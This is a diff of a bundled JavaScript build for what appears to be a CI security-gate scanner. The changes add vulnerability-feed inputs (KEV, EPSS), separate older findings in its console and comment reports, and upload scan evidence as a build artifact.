         ...(mergeGroup === undefined ? {} : { mergeGroup: { baseRef: mergeGroup.base_ref, baseSha: mergeGroup.base_sha } }),
     };
@@ -70144,6 +72869,10 @@ const policyRequest = ({ policy, organisationPolicy }) => ({
     ...(policy === undefined ? {} : { policyPath: policy }),
     ...(organisationPolicy === undefined ? {} : { organisationPolicy }),
 });
+const feedRequest = ({ kev, epss }) => ({
+    ...(kev === undefined ? {} : { kev }),
+    ...(epss === undefined ? {} : { epss }),
+});
 const takeRequest = (inputs, workspace) => ({
     ...policyRequest(inputs),
     path: inputs.path === '' ? workspace : `${workspace}/${inputs.path}`,
@@ -70170,6 +72899,7 @@ async function gateAction() {
     const { mode, evidence, artifact, evidenceDigest, path, scope, outputDirectory } = inputs;
     return runGate({
         ...policyRequest(inputs),
+        ...feedRequest(inputs),
         prefix: path,
         scope,
         ...(mode === undefined ? {} : { mode }),
@@ -70882,6 +73612,7 @@ function annotate(verdict, publication, runner) {
 
 
 
+
 /** More than this is the summary's: a comment is read on the way to the code. */
 const mostBlockers = 20;
 /** What is around the rows. */
@@ -70905,7 +73636,7 @@ function renderComment(verdict, { site, details, wasClosed = false }) {
             problems(verdict),
             fitting.length === 0 ? [] : [...entryHead, ...fitting.map((each) => each.text)],
             hidden.length === 0 ? [] : [`… and ${bySeverity(hidden)} more.`],
-            [closing(verdict, details)],
+            [comment_closing(verdict, details)],
         ]),
         leftOut: left(hidden, verdict),
     };
@@ -70914,13 +73645,15 @@ function renderComment(verdict, { site, details, wasClosed = false }) {
 const problems = (verdict) => [
     ...mistakesInWords(verdict),
     ...(verdict.verdict === 'block' ? verdict.problems.map(({ sentence }) => sentence) : []),
+    ...comparisonTrouble(verdict),
     ...policyNews(verdict),
 ].map((text) => `- ${markdown_prose(text)}`);
-function closing({ coverage, warnings, noted, subject }, details) {
+function comment_closing({ coverage, warnings, noted, subject }, details) {
     const gaps = new Set(coverage.gaps.map(({ path }) => path)).size;
+    const other = noted.filter(({ spared }) => spared !== 'block').length;
     const others = [
         ...(warnings.length === 0 ? [] : [counted(warnings.length, 'warning')]),
-        ...(noted.length === 0 ? [] : [`${noted.length} noted`]),
+        ...(other === 0 ? [] : [`${other} noted`]),
         ...(gaps === 0 ? [] : [`${counted(gaps, 'path')} not looked at in full`]),
     ];
     return [
@@ -71232,7 +73965,7 @@ function blockers(verdict, { all, site }, out) {
         lines: [
             ...inFull.flatMap((entry, index) => [
                 ...(index === 0 ? [] : ['']),
-                ...blocker(entry, index + 1, layout, out),
+                ...blocker(entry, index + 1, { layout, verdict }, out),
                 ...console_blockers_ask(entry, verdict, site, layout),
             ]),
             ...console_blockers_more(folded, out),
@@ -71245,33 +73978,33 @@ function layoutOf(list, { width }) {
     const label = number + 1;
     const indent = label + Math.max(4, ...list.map(({ judged }) => judged.finding.severity.length)) + 2;
     const beside = list.every((entry) => {
-        const texts = headOf(entry).map(({ text }) => columns(text) + 2);
+        const texts = console_blockers_headOf(entry).map(({ text }) => columns(text) + 2);
         return indent + texts.reduce((sum, length) => sum + length, 0) - 2 <= width;
     });
     return { number, label, indent, titleBeside: beside };
 }
 /** Place, subject, title. */
-function headOf(entry) {
+function console_blockers_headOf(entry) {
     return [
         { text: placeInWords(entry.judged.finding.place), style: 'strong' },
         { text: entry_in_words_subjectOf(entry) },
         { text: entry_in_words_titleOf(entry), style: 'strong' },
     ].filter(({ text }) => text !== '');
 }
-function blocker(entry, number, layout, out) {
+function blocker(entry, number, { layout, verdict }, out) {
     const { finding, by } = entry.judged;
     const { indent, label } = layout;
     const severity = out.paint({ text: finding.severity, style: severityStyles[finding.severity] });
     const start = `${out.paint({ text: padStart(String(number), layout.number), style: 'quiet' })} ${severity}`;
     const room = ' '.repeat(indent - label - finding.severity.length);
-    const head = headOf(entry);
+    const head = console_blockers_headOf(entry);
     const [first = '', ...rest] = flow(layout.titleBeside ? head : head.slice(0, -1), indent, out, 2);
     const title = layout.titleBeside ? [] : indented(flow(head.slice(-1), indent, out), indent);
     const row = (name, pieces) => pieces.every(({ text }) => text === '')
         ? []
         : labelled({ text: `${' '.repeat(label)}${name}`, style: 'quiet' }, pieces, indent, out);
     const advice = adviceOf(entry);
-    const [reason = '', ...reasons] = reasonsOf(entry);
+    const [reason = '', ...reasons] = reasonsOf(entry, verdict);
     return [
         `${start}${room}${first}`,
         ...indented(rest, indent),
@@ -71314,12 +74047,13 @@ function notLookedAt(verdict, out) {
 
 
 
+
 /** What the policy says to everyone who meets a warning; empty when it says nothing. Two with the same key say the same. */
-const policyWordsKey = ({ action, by, why, how }) => action !== 'warn' || (why === undefined && how === undefined)
+const policyWordsKey = ({ action, by, why, how, due, blocksFrom, waivedAfterMerge }) => action !== 'warn' || [why, how, due, blocksFrom, waivedAfterMerge].every((each) => each === undefined)
     ? ''
-    : JSON.stringify([ruleInWords(by), why, how?.text, how?.url]);
+    : JSON.stringify([ruleInWords(by), why, how?.text, how?.url, due, blocksFrom, waivedAfterMerge]);
 /** Why it warns and how to repair it, as for a finding that blocks; what was told above is only pointed at. */
-function policyWords(judged, isToldAbove, indent, out) {
+function policyWords(judged, isToldAbove, { indent, verdict }, out) {
     if (policyWordsKey(judged) === '')
         return [];
     const { by, why, how } = judged;
@@ -71330,13 +74064,16 @@ function policyWords(judged, isToldAbove, indent, out) {
     if (isToldAbove)
         return row('why', [{ text: 'as above', style: 'quiet' }, rule]);
     const { text = '', url = '' } = how === undefined ? {} : adviceInWords(judged);
+    const [reason = '', ...more] = [...(why === undefined ? [] : [onOneLine(why)]), ...timesInWords(judged, verdict)];
     return [
-        ...row('why', [{ text: why === undefined ? '' : onOneLine(why) }, rule]),
+        ...row('why', [{ text: reason }, rule]),
+        ...more.flatMap((sentence) => row('', [{ text: sentence }])),
         ...row('fix', [{ text }, { text: url, style: 'link' }]),
     ];
 }
 
 ;// CONCATENATED MODULE: ./build/js/report/console/console-rest.js
+
 
 
 
@@ -71356,18 +74093,26 @@ const narrowestTitle = 20;
 const mostWaivers = 8;
 /** What does not block, as numbers and the rules behind them; every finding when all of them are wanted. */
 function rest(verdict, out, all) {
-    const { warnings, noted, waived } = verdict;
+    const { warnings, waived } = verdict;
+    const older = verdict.noted.filter(({ spared }) => spared === 'block');
+    const noted = verdict.noted.filter(({ spared }) => spared !== 'block');
+    const folding = { verdict, all, out };
     const forWarnings = noted.length === 0 ? console_rest_mostRules : console_rest_mostRules - keptForNotes;
-    const warned = console_rest_folded('Warnings', warnings, forWarnings, out, all);
+    const warned = console_rest_folded('Warnings', warnings, forWarnings, folding);
     const forNotes = console_rest_mostRules - Math.min(forWarnings, console_rest_rulesOf(warnings).length);
-    return [warned, console_rest_folded('Noted', noted, forNotes, out, all), waiverSection(waived, verdict, out)];
+    return [
+        warned,
+        console_rest_folded('Older, would block, not counted here', older, 3, folding),
+        console_rest_folded('Noted', noted, forNotes, folding),
+        waiverSection(waived, verdict, out),
+    ];
 }
-function console_rest_folded(title, list, rows, out, all) {
+function console_rest_folded(title, list, rows, { verdict, all, out }) {
     if (list.length === 0)
         return { lines: [], leftOut: [] };
     const heading = wrap(`${title}: ${bySeverity(list)}`, out.width);
     return {
-        lines: [...heading, ...(all ? everyFinding(list, out) : topRules(list, rows, out))],
+        lines: [...heading, ...(all ? everyFinding(list, verdict, out) : topRules(list, rows, verdict, out))],
         leftOut: all
             ? []
             : leftOut('folded', list.map(({ id }) => id)),
@@ -71384,7 +74129,7 @@ function compareRules(a, b) {
         return 0;
     return compareAll(compareSeverity(first.finding.severity, second.finding.severity), b.length - a.length, order_compareText(first.finding.rule.id, second.finding.rule.id), order_compareText(policyWordsKey(first), policyWordsKey(second)));
 }
-function topRules(list, rows, out) {
+function topRules(list, rows, verdict, out) {
     const rules = console_rest_rulesOf(list);
     const top = rules.slice(0, rows).flatMap((group) => {
         const [first] = group;
@@ -71395,7 +74140,7 @@ function topRules(list, rows, out) {
     const number = Math.max(2, ...top.map(({ count }) => count.length));
     const severity = Math.max(0, ...top.map((row) => row.severity.length));
     const rule = Math.min(mostRuleColumns, Math.floor(out.width / 3), Math.max(0, ...top.map(({ id }) => columns(id))));
-    const told = toldOnce(number + 5, out);
+    const told = toldOnce(number + 5, verdict, out);
     const lines = top.flatMap((row) => {
         const painted = out.paint({ text: padEnd(row.severity, severity), style: severityStyles[row.severity] });
         const start = `   ${padStart(row.count, number)}  ${painted}  `;
@@ -71412,18 +74157,18 @@ function topRules(list, rows, out) {
     return others.length === 0 ? lines : [...lines, more];
 }
 /** What the policy says of a warning: in full where it is told first. */
-function toldOnce(indent, out) {
+function toldOnce(indent, verdict, out) {
     const told = new Set();
     return (judged) => {
         const key = policyWordsKey(judged);
-        const lines = policyWords(judged, told.has(key), indent, out);
+        const lines = policyWords(judged, told.has(key), { indent, verdict }, out);
         told.add(key);
         return lines;
     };
 }
-function everyFinding(list, out) {
+function everyFinding(list, verdict, out) {
     const width = Math.max(...list.map(({ finding }) => finding.severity.length));
-    const told = toldOnce(width + 5, out);
+    const told = toldOnce(width + 5, verdict, out);
     return [...list].sort(compareWorst).flatMap((judged) => {
         const { finding, id } = judged;
         const severity = out.paint({ text: padEnd(finding.severity, width), style: severityStyles[finding.severity] });
@@ -71433,10 +74178,14 @@ function everyFinding(list, out) {
         return [`   ${severity}  ${first}`, ...indented(more, width + 5), ...told(judged)];
     });
 }
-function waiverSection(waived, { waivers }, out) {
+function waiverSection(waived, verdict, out) {
+    const { waivers } = verdict;
     if (waived.length === 0 && waivers.length === 0)
         return { lines: [], leftOut: [] };
-    const sentences = [...waivers.slice(0, mostWaivers).map(waiverInWords), ...moreWaivers(waivers.length - mostWaivers)];
+    const sentences = [
+        ...waivers.slice(0, mostWaivers).map((note) => waiverInWords(note, verdict)),
+        ...moreWaivers(waivers.length - mostWaivers),
+    ];
     return {
         lines: [
             ...wrap(`Waived: ${waived.length === 0 ? 'nothing' : counted(waived.length, 'finding')}${byComments(waived)}`, out.width),
@@ -71477,8 +74226,12 @@ function lookedAt(verdict, out) {
     ];
 }
 /** What two scanners of one tool used alike is told once. */
-function dataRows({ scanners, judged }) {
-    const words = scanners.flatMap(({ data }) => data.map((each) => dataInWords(each, judged)));
+function dataRows(verdict) {
+    const { scanners, judged } = verdict;
+    const words = [
+        ...scanners.flatMap(({ data }) => data.map((each) => dataInWords(each, judged))),
+        ...feedsInWords(verdict),
+    ];
     return [...new Map(words.map((each) => [each.text, each]))]
         .sort(([a], [b]) => order_compareText(a, b))
         .map(([text, { isDoubtful }]) => ({ label: 'Data', text, style: isDoubtful ? 'careful' : 'plain' }));
@@ -71494,6 +74247,7 @@ function console_tools_toolRow(scanners) {
 }
 
 ;// CONCATENATED MODULE: ./build/js/report/console/console.js
+
 
 
 
@@ -71549,6 +74303,7 @@ function trouble(verdict, out) {
     const lines = [
         ...mistakesInWords(verdict),
         ...below.map(problemInWords),
+        ...comparisonTrouble(verdict),
         ...warnings.map((sentence) => endSentence(onOneLine(sentence))),
         ...policyNews(verdict),
     ];
@@ -71569,7 +74324,11 @@ function console_closing(verdict, all, out) {
     const count = allJudged(verdict).length;
     const what = count === 1 ? 'The finding in full' : `All ${count} findings`;
     const everything = all ? [] : [[`${what}:`, 'add --format json, or --output json=FILE']];
-    return [...(exit > 0 ? [mode] : []), ...explain, ...everything].flatMap((parts) => unbroken(parts, out));
+    const older = olderBlockers(verdict) === 0 ? [] : [['Older findings too:', 'gatehouse scan --everything']];
+    const stricter = verdict.policy.organisation === undefined
+        ? [["The organisation's policy is not known here:", 'CI may be stricter.']]
+        : [];
+    return [...(exit > 0 ? [mode] : []), ...explain, ...older, ...everything, ...stricter].flatMap((parts) => unbroken(parts, out));
 }
 /** The same in the log of a workflow. */
 function closingOfStep({ verdict, mode, subject }, out) {
@@ -71668,7 +74427,30 @@ async function publishAction() {
     }, ports);
 }
 
+;// CONCATENATED MODULE: ./build/js/flow/step/keep-evidence.js
+
+
+
+/**
+ * Stores the evidence of a run on the default branch, so that changes need not scan again what they leave as it is. That it cannot be
+ * stored costs them time and nothing else.
+ */
+async function keepEvidence(evidence, written, scope, { context, artifacts, progress }) {
+    const { event, ref, defaultBranch } = context;
+    const isOfBranch = ownEvents.includes(event) && ref === `refs/heads/${defaultBranch}`;
+    if (!isOfBranch || findTrouble(evidence).length > 0)
+        return;
+    try {
+        await artifacts.upload(evidenceArtifact(scope), [written.path], written.folder);
+    }
+    catch (error) {
+        progress.step('keep the evidence for changes', 'failed', (0,errors/* toProblem */.H8)(error).sentence);
+    }
+}
+
 ;// CONCATENATED MODULE: ./build/js/flow/step/run-root.js
+
+
 
 
 
@@ -71679,10 +74461,12 @@ async function publishAction() {
 async function runRoot(request, ports) {
     const { context, runner, clock } = ports;
     const paths = await openOutput(request.outputDirectory, ports);
+    const feeds = await openFeeds(request, ports);
     const { evidence, found } = await takeInStep(request, ports);
-    const verdict = judgeEvidence(evidence, found, request.mode, clock);
+    const verdict = judgeEvidence(evidence, found, { mode: request.mode, feeds }, clock);
     setOutputs(judgedOutputs(verdict, paths, context), runner);
     const sarif = await writeVerdict(paths, { evidence, verdict }, ports);
+    await keepEvidence(evidence, { path: paths.evidence, folder: request.outputDirectory }, request.scope, ports);
     const { timings } = evidence;
     const published = await publishVerdict({ verdict, sarif, timings, context, options: request.publish }, ports);
     setOutputs(publishedOutputs(published.publication), runner);
@@ -71700,6 +74484,7 @@ async function rootAction() {
     const { mode, outputDirectory, requirePublish } = inputs;
     return runRoot({
         ...takeRequest(inputs, ports.context.workspace),
+        ...feedRequest(inputs),
         ...(mode === undefined ? {} : { mode }),
         outputDirectory,
         requirePublish,
